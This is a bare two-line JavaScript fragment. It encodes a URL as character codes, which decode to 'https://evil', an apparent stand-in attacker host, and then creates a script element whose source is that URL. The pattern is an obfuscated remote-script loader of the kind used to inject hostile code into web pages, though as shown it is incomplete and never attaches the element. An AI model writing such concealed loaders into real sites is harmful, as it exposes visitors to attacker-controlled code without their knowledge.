var s = String.fromCharCode(104,116,116,112,115,58,47,47,101,118,105,108);
var e = document.createElement('script'); e.src = s;
